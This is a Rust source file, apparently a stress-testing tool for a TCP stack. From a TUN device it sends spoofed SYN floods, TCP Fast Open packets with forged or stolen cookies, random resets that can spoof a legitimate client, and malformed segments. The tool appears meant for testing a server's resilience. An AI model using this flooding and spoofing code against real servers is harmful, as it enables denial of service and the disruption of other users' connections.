//! An attacker that sends packets at a steady rate from a TUN device, whose network is the attacker's.
//!
//! The server's answers are read only until one cookie is stolen; later answers overflow the queue.

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use brisk_packet_io::tun::{TunDevice, TunOptions};
use brisk_wire::{
    ChecksumCheck, ChecksumFill, Cookie, FastOpen, Flags, IpMeta, Packet, SeqNum, TcpHeader, emit, parse,
};

/// Kind of packet to send.
#[derive(Clone, Copy, PartialEq, Eq, Debug, clap::ValueEnum)]
pub(crate) enum Kind {
    /// SYNs with data and random cookies from random addresses.
    Forged,
    /// SYNs with data and one valid cookie, from the address to which the cookie belongs.
    Stolen,
    /// Like `Stolen`, each followed by a reset.
    StolenAndReset,
    /// SYNs without data or cookies from random addresses.
    Syn,
    /// Resets with random sequence numbers.
    Reset,
    /// Segments with random flags, numbers and data; every fourth has random bytes instead of a TCP header.
    Garbage,
}

/// The flags of `flood`.
#[derive(Clone, Debug, clap::Args)]
pub(crate) struct Flood {
    /// TUN device to send from
    #[arg(long)]
    tun: String,
    /// The attacker's network, a /16; the kernel has its first address
    #[arg(long, default_value = "10.66.0.0", value_name = "ADDR")]
    network: Ipv4Addr,
    /// Address to attack
    #[arg(long)]
    to: SocketAddr,
    /// Address of a legitimate client: the source of every second packet of `reset` and `garbage`
    #[arg(long, value_name = "ADDR")]
    victim: Option<Ipv4Addr>,
    /// Packets per second (`stolen-and-reset`: pairs)
    #[arg(long)]
    rate: u64,
    /// Duration in seconds
    #[arg(long)]
    seconds: u64,
    #[arg(long, value_enum)]
    kind: Kind,
}

/// Interval between two bursts.
const TICK: Duration = Duration::from_millis(1);

/// Sends for the duration; prints the number of packets (of SYNs, for the kinds with cookies), and how many
/// of them the device did not accept.
pub(crate) fn flood(flood: &Flood) -> io::Result<()> {
    let mut attacker = Attacker::new(flood)?;
    println!("ready");
    let stolen = match flood.kind {
        Kind::Stolen | Kind::StolenAndReset => Some(attacker.steal()?),
        Kind::Forged | Kind::Syn | Kind::Reset | Kind::Garbage => None,
    };
    let began = Instant::now();
    let (mut sent, mut refused) = (0, 0);
    while began.elapsed() < Duration::from_secs(flood.seconds) {
        let due = (began.elapsed().as_secs_f64() * flood.rate as f64) as u64;
        while sent < due {
            refused += u64::from(!attacker.attack(flood.kind, stolen)?);
            sent += 1;
        }
        std::thread::sleep(TICK);
    }
    println!("{sent} sent, {refused} found no room");
    Ok(())
}

struct Attacker {
    tun: TunDevice,
    own: u32,
    victim: Option<u32>,
    to: SocketAddr,
    draw: u64,
    packet: Vec<u8>,
}

impl Attacker {
    /// Host number of the address whose cookie is stolen.
    const THIEF: u32 = 66;

    fn new(flood: &Flood) -> io::Result<Attacker> {
        let options = TunOptions { offload: false, ..TunOptions::default() };
        let mut tun = TunDevice::open(&flood.tun, options).map_err(io::Error::other)?;
        let own = flood.network.to_bits() & 0xffff_0000;
        tun.configure(IpAddr::V4(Ipv4Addr::from_bits(own + 1)), 16, 1500).map_err(io::Error::other)?;
        let victim = flood.victim.map(Ipv4Addr::to_bits);
        Ok(Attacker { tun, own, victim, to: flood.to, draw: 12_345, packet: Vec::new() })
    }

    /// Returns 64 pseudo-random bits of low quality.
    fn draw(&mut self) -> u64 {
        self.draw = self.draw.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        self.draw ^ (self.draw >> 29)
    }

    fn header(&self, from: u16, seq: u32, flags: Flags) -> TcpHeader {
        let (src_port, dst_port) = (from, self.to.port());
        TcpHeader { src_port, dst_port, seq: SeqNum(seq), flags, window: 65_535, ..TcpHeader::default() }
    }

    /// Sends a packet; returns false if the device did not accept it.
    fn send(&mut self, from: u32, tcp: &TcpHeader, payload: &[u8]) -> io::Result<bool> {
        let meta = IpMeta::new(IpAddr::V4(Ipv4Addr::from_bits(from)), self.to.ip());
        emit(&meta, tcp, &[payload], ChecksumFill::Full, &mut self.packet).map_err(io::Error::other)?;
        self.put()
    }

    /// Sends the packet in the buffer.
    fn put(&mut self) -> io::Result<bool> {
        match self.tun.send_raw(&self.packet) {
            Ok(()) => Ok(true),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(false),
            Err(error) => Err(error),
        }
    }

    /// Requests the cookie of the attacker's own address.
    fn steal(&mut self) -> io::Result<FastOpen> {
        let mut syn = self.header(9, 1, Flags::SYN);
        syn.options.fast_open = Some(FastOpen::REQUEST);
        let mut buffer = vec![0; 1 << 16];
        for _ in 0..50 {
            self.send(self.own + Attacker::THIEF, &syn, &[])?;
            std::thread::sleep(Duration::from_millis(100));
            let mut cookie = None;
            while let Ok(len) = self.tun.recv(&mut buffer) {
                if let Ok(Packet::Tcp(segment)) = parse(&buffer[..len], ChecksumCheck::Trust) {
                    cookie = cookie.or(segment.tcp.options.fast_open);
                }
            }
            if let Some(cookie) = cookie {
                return Ok(cookie);
            }
        }
        Err(io::Error::other("the server gives no cookie: nothing to steal"))
    }

    /// Sends the next packet of an attack; returns false if the device did not accept it.
    fn attack(&mut self, kind: Kind, stolen: Option<FastOpen>) -> io::Result<bool> {
        let draw = self.draw();
        let [a, b, .., c, d] = draw.to_le_bytes();
        let (port, seq) = (1024 | u16::from_le_bytes([a, b]), (draw >> 32) as u32);
        let from = match (kind, self.victim) {
            (Kind::Stolen | Kind::StolenAndReset, _) => self.own + Attacker::THIEF,
            (Kind::Reset | Kind::Garbage, Some(victim)) if c % 2 == 0 => victim,
            _ => self.own + 2 + (draw >> 16) as u32 % 65_000,
        };
        let mut tcp = self.header(port, seq, Flags::SYN);
        match kind {
            Kind::Forged | Kind::Stolen | Kind::StolenAndReset => {
                tcp.options.mss = Some(1460);
                tcp.options.fast_open =
                    stolen.or_else(|| Cookie::new(&draw.to_be_bytes()).map(FastOpen::with_cookie));
                let accepted = self.send(from, &tcp, &[b'.'; 100])?;
                if kind == Kind::StolenAndReset {
                    self.send(from, &self.header(port, seq.wrapping_add(101), Flags::RST), &[])?;
                }
                Ok(accepted)
            }
            Kind::Syn => {
                tcp.options.mss = Some(1460);
                self.send(from, &tcp, &[])
            }
            Kind::Reset => {
                tcp.flags = Flags::RST;
                self.send(from, &tcp, &[])
            }
            Kind::Garbage => {
                (tcp.flags, tcp.ack) = (Flags(u16::from(d)), SeqNum(self.draw() as u32));
                let data = [(); 25].map(|()| self.draw().to_le_bytes()).concat();
                let data = &data[..usize::from(a) % 201];
                if c & 6 != 0 {
                    return self.send(from, &tcp, data);
                }
                let meta = IpMeta::new(IpAddr::V4(Ipv4Addr::from_bits(from)), self.to.ip());
                emit(&meta, &tcp, &[data], ChecksumFill::Full, &mut self.packet).map_err(io::Error::other)?;
                // The ports stay, so that the packet reaches the server.
                for byte in &mut self.packet[24..] {
                    self.draw = self.draw.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                    *byte = (self.draw >> 56) as u8;
                }
                self.put()
            }
        }
    }
}
